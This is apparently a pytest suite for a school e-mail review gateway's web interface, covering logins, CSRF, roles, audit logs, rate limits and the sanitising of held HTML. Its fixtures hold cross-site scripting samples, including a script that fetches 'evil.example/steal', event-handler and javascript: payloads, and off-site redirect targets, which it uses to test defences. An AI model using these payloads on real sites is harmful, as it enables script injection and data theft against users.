"""The reviewers' web app over HTTP: every page, role and decision, on a real store."""

from __future__ import annotations

import functools
import re
from datetime import date, datetime, timedelta

import pytest
from starlette.testclient import TestClient

from gateway.store import Envelope, NewCopy, Store, StoredFinding, ts
from gateway.web import create_app, hash_password

from .conftest import PARENT, PHONE, STAFF, mail

PASSWORD = "a long enough password"


@functools.cache
def password_hash() -> str:
    """PASSWORD hashed once: argon2id takes a fifth of a second, and every fixture's
    accounts share it (each login still verifies it for real)."""
    return hash_password(PASSWORD)


EVIL_HTML = """<p>Hello <b>there</b></p>
<script>fetch('http://evil.example/steal')</script>
<img src="http://evil.example/pixel.png" onerror="alert(1)">
<a href="javascript:alert(2)">click</a>
<style>@import url(http://evil.example/x.css); body { background: url(http://evil.example/bg.png) }</style>
<form action="http://evil.example/post"><input name="q"></form>
<div onclick="alert(3)" style="background:url(http://evil.example/div.png)">Ring me on 07700 900999</div>"""


@pytest.fixture
def web(config, store_url):
    store = Store(store_url)
    for name, role, email in (
        ("dsl", "reviewer", "dsl@heartofengland.example"),
        ("head", "admin", "head@heartofengland.example"),
        ("governor", "auditor", ""),
        ("tess", "reviewer", STAFF),
    ):
        store.put_user(name, role=role, email=email, password_hash=password_hash())
    copies = {}
    for subject, html in (("Trip", None), ("Evil", EVIL_HTML)):
        raw = mail(
            "Ring me on 07700 900999 tonight.",
            subject=subject,
            html=html,
            attachments=[
                ("notes.html", "application", "octet-stream", b"<script>alert(4)</script>")
            ]
            if html
            else (),
        )
        accepted = store.accept(
            Envelope(STAFF, (PARENT,)),
            raw,
            [NewCopy(PARENT, "parent", "held", "rules: personal-phone", (PHONE,))],
            subject=subject,
        )
        copies[subject] = accepted.copy_ids[PARENT]
    app = create_app(config, store, secret="test-secret")
    yield app, store, copies
    store.close()


def login(
    app,
    name: str,
    password: str = PASSWORD,
    base_url: str = "http://testserver",
    peer: str = "testclient",
    forwarded_for: str | None = None,
) -> TestClient:
    headers = {"x-forwarded-for": forwarded_for} if forwarded_for else None
    client = TestClient(
        app, follow_redirects=False, base_url=base_url, client=(peer, 50000), headers=headers
    )
    page = client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    response = client.post(
        "/login", data={"name": name, "password": password, "csrf": csrf, "next": "/queue"}
    )
    client.last_login = response
    return client


def csrf_of(client: TestClient, path: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', client.get(path).text).group(1)


def test_every_page_needs_a_login(web):
    app, _, copies = web
    client = TestClient(app, follow_redirects=False)
    for path in (
        "/queue",
        f"/copy/{copies['Trip']}",
        f"/copy/{copies['Trip']}/raw",
        "/audit",
        "/audit.csv",
        f"/copy/{copies['Evil']}/attachment/4",
    ):
        response = client.get(path)
        assert response.status_code == 303 and response.headers["location"].startswith("/login"), (
            path
        )
    assert client.post(f"/copy/{copies['Trip']}/release", data={"reason": "x"}).status_code == 303


def test_login_sets_a_strict_http_only_cookie_and_failures_are_limited(web, config):
    app, store, _ = web
    client = login(app, "dsl")
    assert client.last_login.status_code == 303
    cookie = client.last_login.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "secure" not in cookie
    assert login(app, "dsl", "wrong").last_login.status_code == 401
    assert login(app, "nobody", "wrong").last_login.status_code == 401
    for _ in range(4):
        login(app, "dsl", "wrong")
    assert login(app, "dsl").last_login.status_code == 429  # even the right password, for a while
    secure_app = create_app(config, store, secret="s", https=True)
    first = TestClient(secure_app, base_url="https://testserver").get("/login")
    assert "secure" in first.headers["set-cookie"].lower()


def test_queue_lists_held_copies_with_categories_filters_and_counts(web):
    app, _, copies = web
    client = login(app, "dsl")
    page = client.get("/queue")
    assert page.status_code == 200 and "Trip" in page.text and "Evil" in page.text
    assert "personal phone: 2" in page.text
    assert "Trip" not in client.get("/queue?q=evil").text
    assert "Trip" in client.get("/queue?category=personal_phone&sender=teacher").text
    assert "Nothing here" in client.get("/queue?category=secrecy").text
    assert "Trip" in client.get(f"/queue?from={date.today().isoformat()}").text
    assert "Nothing here" in client.get("/queue?to=2020-01-01").text
    assert client.get("/queue?from=yesterday").status_code == 400
    assert page.headers["content-security-policy"].startswith("default-src 'none'")


def test_a_held_message_shows_the_finding_in_place_with_its_clause_and_the_view_is_audited(web):
    app, store, copies = web
    client = login(app, "dsl")
    page = client.get(f"/copy/{copies['Trip']}")
    assert page.status_code == 200
    assert "<mark>07700 900999</mark>" in page.text
    assert "They should not give their personal contact details" in page.text
    assert [(e.actor, e.action) for e in store.audit_log(copies["Trip"])][-1] == ("dsl", "viewed")


def test_release_needs_the_csrf_token_and_a_reason(web):
    app, store, copies = web
    client = login(app, "dsl")
    path = f"/copy/{copies['Trip']}/release"
    assert client.post(path, data={"reason": "ok"}).status_code == 403
    assert client.post(path, data={"reason": "ok", "csrf": "forged"}).status_code == 403
    token = csrf_of(client, f"/copy/{copies['Trip']}")
    assert client.post(path, data={"reason": " ", "csrf": token}).status_code == 400
    assert store.copy(copies["Trip"]).status == "held"
    done = client.post(path, data={"reason": "agreed trip mobile", "csrf": token, "scope": "copy"})
    assert done.status_code == 303
    copy = store.copy(copies["Trip"])
    assert (copy.status, copy.decided_by, copy.decision_reason) == (
        "released",
        "dsl",
        "agreed trip mobile",
    )
    assert "released" in client.get(done.headers["location"]).text  # the flash message


def test_reject_with_a_note_to_the_sender(web):
    app, store, copies = web
    client = login(app, "head")
    token = csrf_of(client, f"/copy/{copies['Trip']}")
    client.post(
        f"/copy/{copies['Trip']}/reject",
        data={"reason": "personal mobile", "csrf": token, "tell_sender": "Use the trip phone."},
    )
    assert store.copy(copies["Trip"]).status == "rejected"
    [notice] = [c for c in store.copies(kind="notice") if c.recipient == STAFF]
    assert b"Use the trip phone." in store.message(notice.message_id).raw


def test_roles_are_enforced_on_the_server(web):
    app, store, copies = web
    auditor = login(app, "governor")
    assert auditor.get(f"/copy/{copies['Trip']}").status_code == 200
    assert "Release" not in auditor.get(f"/copy/{copies['Trip']}").text
    token = csrf_of(auditor, "/queue")
    assert (
        auditor.post(
            f"/copy/{copies['Trip']}/release", data={"reason": "x", "csrf": token}
        ).status_code
        == 403
    )
    assert auditor.get("/audit").status_code == 200
    reviewer = login(app, "dsl")
    assert reviewer.get("/audit").status_code == 403
    assert store.copy(copies["Trip"]).status == "held"


def test_a_reviewer_cannot_decide_on_mail_they_sent(web):
    app, store, copies = web
    client = login(app, "tess")  # tess is the sender of both held messages
    page = client.get(f"/copy/{copies['Trip']}")
    assert "another reviewer must decide" in page.text
    token = csrf_of(client, "/queue")
    response = client.post(
        f"/copy/{copies['Trip']}/release", data={"reason": "mine", "csrf": token}
    )
    assert response.status_code == 403
    assert store.copy(copies["Trip"]).status == "held"


def test_hostile_html_is_shown_harmless(web):
    app, _, copies = web
    client = login(app, "dsl")
    page = client.get(f"/copy/{copies['Evil']}")
    html_view = page.text.split("HTML part", 1)[1]
    assert "<b>there</b>" in html_view  # harmless structure survives
    for bad in (
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "evil.example/pixel",
        "<img",
        "<style",
        "<form",
        "url(http",
        "evil.example/post",
    ):
        assert bad not in html_view, bad
    [link] = re.findall(r'href="(/copy/\d+/attachment/\d+)"', page.text)
    attachment = client.get(link)
    assert attachment.headers["content-disposition"].startswith("attachment")
    assert attachment.headers["content-type"] == "application/octet-stream"


def test_audit_is_filterable_and_exports_csv(web):
    app, _, copies = web
    login(app, "dsl").get(f"/copy/{copies['Trip']}")
    client = login(app, "head")
    page = client.get("/audit?actor=dsl&action=viewed")
    assert page.status_code == 200 and "viewed" in page.text and "logged-in" not in page.text
    exported = client.get("/audit.csv?action=viewed")
    assert exported.headers["content-type"].startswith("text/csv")
    lines = exported.text.strip().splitlines()
    assert (
        lines[0] == "at,actor,action,message,copy,detail"
        and len(lines) == 2
        and ",dsl,viewed," in lines[1]
    )


def test_release_and_approve_the_number_in_one_step(web):
    app, store, copies = web
    client = login(app, "dsl")
    page = client.get(f"/copy/{copies['Trip']}")
    assert "Release and approve" in page.text
    token = csrf_of(client, f"/copy/{copies['Trip']}")
    bad = client.post(
        f"/copy/{copies['Trip']}/approve",
        data={
            "csrf": token,
            "finding": "0",
            "reason": "trip",
            "approve_scope": "sender",
            "until": "2099-01-01",
        },
    )
    assert bad.status_code == 400 and store.exceptions() == []  # an expiry within a year, please
    from datetime import date, timedelta

    until = (date.today() + timedelta(days=20)).isoformat()
    done = client.post(
        f"/copy/{copies['Trip']}/approve",
        data={
            "csrf": token,
            "finding": "0",
            "reason": "trip mobile",
            "approve_scope": "sender",
            "until": until,
        },
    )
    assert done.status_code == 303
    [exception] = store.exceptions()
    assert (
        exception["kind"],
        exception["value"],
        exception["senders"],
        exception["recipients"],
    ) == ("phone", "+447700900999", [STAFF], [])
    assert store.copy(copies["Trip"]).status == "released"
    actions = [e.action for e in store.audit_log(copies["Trip"])]
    assert "exception-added" in actions and "released" in actions


def test_two_person_release_for_chosen_categories(web, config):
    import dataclasses

    app, store, _ = web
    secrecy = StoredFinding(
        "dont-tell",
        "secrecy",
        "quarantine",
        "don't tell your mum",
        "body",
        "new",
        False,
        "phrase",
        "don't tell your mum about this",
    )
    copy_id = store.accept(
        Envelope(STAFF, (PARENT,)),
        mail("Don't tell your mum about this.", subject="Secret"),
        [NewCopy(PARENT, "parent", "held", "rules: dont-tell", (secrecy,))],
        subject="Secret",
    ).copy_ids[PARENT]
    strict = dataclasses.replace(
        config, relay=dataclasses.replace(config.relay, two_person_categories=("secrecy",))
    )
    app = create_app(strict, store, secret="s2")
    first = login(app, "dsl")
    token = csrf_of(first, f"/copy/{copy_id}")
    first.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "fine", "scope": "copy"})
    assert store.copy(copy_id).status == "held"  # one approval is not enough
    assert (
        first.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "again"}).status_code
        == 400
    )
    second = login(app, "head")
    assert "Release approved by</th><td>dsl" in second.get(f"/copy/{copy_id}").text
    token = csrf_of(second, f"/copy/{copy_id}")
    second.post(
        f"/copy/{copy_id}/release", data={"csrf": token, "reason": "agreed", "scope": "copy"}
    )
    copy = store.copy(copy_id)
    assert (copy.status, copy.decided_by) == ("released", "head")
    assert [e.actor for e in store.audit_log(copy_id, action="release-approved")] == ["dsl"]


def test_assign_a_held_copy_to_another_reviewer(web):
    app, store, copies = web
    client = login(app, "dsl")
    token = csrf_of(client, f"/copy/{copies['Trip']}")
    assert (
        client.post(
            f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "governor"}
        ).status_code
        == 400
    )
    assert (
        client.post(
            f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "head"}
        ).status_code
        == 303
    )
    assert store.copy(copies["Trip"]).assigned_to == "head"
    head = login(app, "head")
    mine = head.get("/queue?assigned=me").text
    assert "Trip" in mine and "Evil" not in mine
    assert [e.detail for e in store.audit_log(copies["Trip"], action="assigned")] == [
        {"to": "head"}
    ]


@pytest.mark.parametrize("target", ["//evil.example/x", "/\\evil.example", "https://evil.example"])
def test_login_never_redirects_off_site(web, target):
    app, _, _ = web
    client = TestClient(app, follow_redirects=False)
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    done = client.post(
        "/login", data={"name": "dsl", "password": PASSWORD, "csrf": csrf, "next": target}
    )
    assert done.status_code == 303 and done.headers["location"] == "/queue"


def test_a_possible_duplicate_is_shown_on_the_copy_page(web):
    from datetime import timedelta

    from gateway.mail import now_utc

    app, store, copies = web
    client = login(app, "dsl")
    assert "possible duplicate" not in client.get(f"/copy/{copies['Trip']}").text
    store.release(copies["Trip"], actor="head", reason="fine")
    now = now_utc()
    [claimed] = store.claim_due(now, timedelta(minutes=5))
    store.sending(claimed.id)
    store.settle(claimed.id, "deferred", "timeout", next_attempt_at=now, possible_duplicate=True)
    assert (
        "possible duplicate: an earlier delivery attempt"
        in client.get(f"/copy/{copies['Trip']}").text
    )


def _cookie_copy(client: TestClient, app) -> TestClient:
    """Another browser holding the same session cookie (as a stolen or copied cookie would be)."""
    other = TestClient(app, follow_redirects=False)
    other.cookies.set("chaperone_session", client.cookies["chaperone_session"])
    return other


def test_logout_ends_the_session_even_for_a_copied_cookie(web):
    app, store, _ = web
    client = login(app, "dsl")
    copied = _cookie_copy(client, app)
    assert copied.get("/queue").status_code == 200
    client.post("/logout", data={"csrf": csrf_of(client, "/queue")})
    assert copied.get("/queue").status_code == 303  # the old cookie no longer works
    assert ("dsl", "sessions-ended") in [(e.actor, e.action) for e in store.audit_log()]


@pytest.mark.parametrize(
    "changes",
    [[{"password_hash": "x"}], [{"role": "auditor"}], [{"disabled": True}, {"disabled": False}]],
    ids=["password", "role", "disabled-and-enabled-again"],
)
def test_a_password_role_or_disabled_change_ends_the_accounts_sessions(web, changes):
    app, store, _ = web
    client = login(app, "dsl")
    other = login(app, "head")
    for change in changes:
        store.put_user("dsl", **change)
    assert client.get("/queue").status_code == 303
    assert other.get("/queue").status_code == 200  # other accounts are untouched
    store.put_user("head", email="head@heartofengland.example")
    assert other.get("/queue").status_code == 200  # a new e-mail address ends nothing


SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "x-frame-options")


def test_https_sends_hsts_and_plain_http_does_not(web, config):
    app, store, _ = web
    assert "strict-transport-security" not in TestClient(app).get("/login").headers
    secure = TestClient(create_app(config, store, secret="s", https=True), base_url="https://t")
    assert secure.get("/login").headers["strict-transport-security"].startswith("max-age=")


def test_an_internal_error_is_a_500_with_the_security_headers_and_no_detail(web):
    app, store, _ = web
    client = login(app, "dsl")
    client = TestClient(app, raise_server_exceptions=False, cookies=client.cookies)
    with store._tx() as cur:  # a real store fault: the table the queue reads is gone
        cur.execute("ALTER TABLE copies RENAME TO copies_gone")
    response = client.get("/queue")
    assert response.status_code == 500 and "copies" not in response.text
    for header in SECURITY_HEADERS:
        assert header in response.headers, header


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/queue?page=abc", 400),
        ("/queue?page=%C2%B2", 400),  # "²" is a digit to str.isdigit, not to int
        ("/queue?page=99999999999999999999999", 400),
        ("/copy/9223372036854775808", 404),  # 2**63: past every 64-bit id
        ("/copy/99999999999999999999999/raw", 404),
        ("/audit?copy=%C2%B2", 400),
        ("/audit?copy=99999999999999999999999", 400),
    ],
)
def test_bad_input_is_a_client_error_with_the_security_headers(web, path, status):
    app, _, _ = web
    client = login(app, "head")
    client = TestClient(app, raise_server_exceptions=False, cookies=client.cookies)
    response = client.get(path)
    assert response.status_code == status
    for header in SECURITY_HEADERS:
        assert header in response.headers, header


def test_an_attachment_name_outside_latin_1_downloads_under_its_own_name(web):
    app, store, _ = web
    name = "Расписание поездки 旅行.txt"
    accepted = store.accept(
        Envelope(STAFF, (PARENT,)),
        mail("See attached.", subject="Names", attachments=[(name, "text", "plain", b"coach 9")]),
        [NewCopy(PARENT, "parent", "held", "rules: personal-phone", (PHONE,))],
        subject="Names",
    )
    client = login(app, "dsl")
    copy_id = accepted.copy_ids[PARENT]
    [link] = re.findall(r'href="(/copy/\d+/attachment/\d+)"', client.get(f"/copy/{copy_id}").text)
    response = client.get(link)
    assert response.status_code == 200 and response.content == b"coach 9"
    from urllib.parse import unquote

    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    # RFC 6266: browsers take filename* (RFC 8187 UTF-8) over the ASCII fallback.
    assert unquote(re.search(r"filename\*=UTF-8''(\S+)", disposition).group(1)) == name
    assert re.search(r'filename="[ -~]+"', response.headers["content-disposition"])


LINKS_HTML = """<p>Read <a href="/queue">this</a>, <a href="//evil.example/p">that</a>,
<a href="&#x2003;https://evil.example/space">spaced</a> and
<a href="https://evil.example/?a=1&amp;b=&quot;&lt;x&gt;">quoted</a>.</p>"""


def test_links_in_held_html_show_their_targets_as_text_and_cannot_be_followed(web):
    app, store, _ = web
    accepted = store.accept(
        Envelope(STAFF, (PARENT,)),
        mail("Links.", subject="Links", html=LINKS_HTML),
        [NewCopy(PARENT, "parent", "held", "rules: personal-phone", (PHONE,))],
        subject="Links",
    )
    client = login(app, "dsl")
    page = client.get(f"/copy/{accepted.copy_ids[PARENT]}").text
    html_view = page.split('class="html-view"', 1)[1].split("</div>", 1)[0]
    assert "<a" not in html_view and "href" not in html_view
    for target in ("/queue", "//evil.example/p", "https://evil.example/space"):
        assert f"[link to {target}]" in html_view or f"[link to \u2003{target}]" in html_view
    assert "&lt;x&gt;" in html_view and "<x>" not in html_view


def test_concurrent_wrong_passwords_get_no_more_checks_than_the_limit(web):
    import threading

    app, _, _ = web
    clients, answers = [], []
    for _ in range(16):
        client = TestClient(app, follow_redirects=False, client=("203.0.113.9", 1))
        clients.append((client, csrf_of(client, "/login")))
    start = threading.Barrier(len(clients))

    def attempt(client: TestClient, csrf: str) -> None:
        start.wait()
        form = {"name": "dsl", "password": "wrong", "csrf": csrf, "next": "/queue"}
        answers.append(client.post("/login", data=form).status_code)

    threads = [threading.Thread(target=attempt, args=pair) for pair in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(answers) == [401] * 5 + [429] * 11  # five passwords checked, the rest refused


def test_one_names_failures_lock_neither_other_names_nor_its_usual_client(web):
    app, _, _ = web
    assert login(app, "dsl", peer="198.51.100.20").last_login.status_code == 303  # dsl's own PC
    for _ in range(5):
        assert login(app, "dsl", "wrong", peer="203.0.113.9").last_login.status_code == 401
    assert login(app, "dsl", peer="203.0.113.9").last_login.status_code == 429
    assert login(app, "dsl", peer="192.0.2.30").last_login.status_code == 429  # a new client too
    assert login(app, "head", peer="203.0.113.9").last_login.status_code == 303  # other names
    assert login(app, "dsl", peer="198.51.100.20").last_login.status_code == 303  # dsl, as usual


def test_wrong_passwords_from_a_known_client_slow_the_name_down_without_locking_it(web):
    app, store, _ = web
    here = "198.51.100.20"
    assert login(app, "dsl", peer=here).last_login.status_code == 303
    for _ in range(5):
        assert login(app, "dsl", "wrong", peer=here).last_login.status_code == 401
    refused = login(app, "dsl", peer=here).last_login
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) <= 2  # not 15 min
    with store._tx() as cur:  # the wait passes: move the failures a minute into the past
        for row_id, at in cur.execute("SELECT id, at FROM login_failures").fetchall():
            earlier = datetime.fromisoformat(at) - timedelta(minutes=1)
            cur.execute("UPDATE login_failures SET at = ? WHERE id = ?", (ts(earlier), row_id))
    assert login(app, "dsl", peer=here).last_login.status_code == 303


def test_x_forwarded_for_names_the_client_only_behind_a_trusted_proxy(web, config):
    import dataclasses
    from ipaddress import ip_network

    _, store, _ = web
    behind_proxy = dataclasses.replace(
        config,
        web=dataclasses.replace(config.web, trusted_proxies=(ip_network("10.0.0.0/24"),)),
    )
    app = create_app(behind_proxy, store, secret="s")
    for _ in range(5):  # one person behind the proxy gets the name dsl locked for new clients
        login(app, "dsl", "wrong", peer="10.0.0.1", forwarded_for="203.0.113.9")
    # ... and someone else behind the same proxy is their own client.
    assert (
        login(app, "head", peer="10.0.0.1", forwarded_for="192.0.2.7").last_login.status_code == 303
    )
    # A forged hop before the client's own address is not believed; a peer that is no proxy is not either.
    login(app, "governor", peer="10.0.0.1", forwarded_for="6.6.6.6, 192.0.2.8, 10.0.0.2")
    login(app, "tess", peer="198.51.100.1", forwarded_for="192.0.2.9")
    clients = {e.actor: e.detail["client"] for e in store.audit_log() if e.action == "logged-in"}
    assert clients == {"head": "192.0.2.7", "governor": "192.0.2.8", "tess": "198.51.100.1"}


def _user_cli(store_url: str, *args: str):
    import subprocess

    from .conftest import CONFIG
    from .relay_env import GATEWAY

    return subprocess.run(
        [str(GATEWAY), "user", *args, "--config", str(CONFIG), "--store-url", store_url],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_cli_changes_roles_re_enables_and_ends_sessions(web, store_url):
    app, store, _ = web
    client = login(app, "dsl")
    done = _user_cli(store_url, "end-sessions", "dsl")
    assert done.returncode == 0, done.stderr
    assert client.get("/queue").status_code == 303
    client = login(app, "dsl")
    assert _user_cli(store_url, "role", "dsl", "auditor").returncode == 0
    assert store.user("dsl").role == "auditor" and client.get("/queue").status_code == 303
    assert _user_cli(store_url, "disable", "dsl").returncode == 0
    assert login(app, "dsl").last_login.status_code == 401
    assert _user_cli(store_url, "enable", "dsl").returncode == 0
    assert login(app, "dsl").last_login.status_code == 303
    missing = _user_cli(store_url, "end-sessions", "nobody")
    assert missing.returncode != 0 and "no user 'nobody'" in missing.stderr
    exists = _user_cli(store_url, "add", "dsl", "--role", "reviewer")
    assert "gateway user role dsl ROLE" in exists.stderr
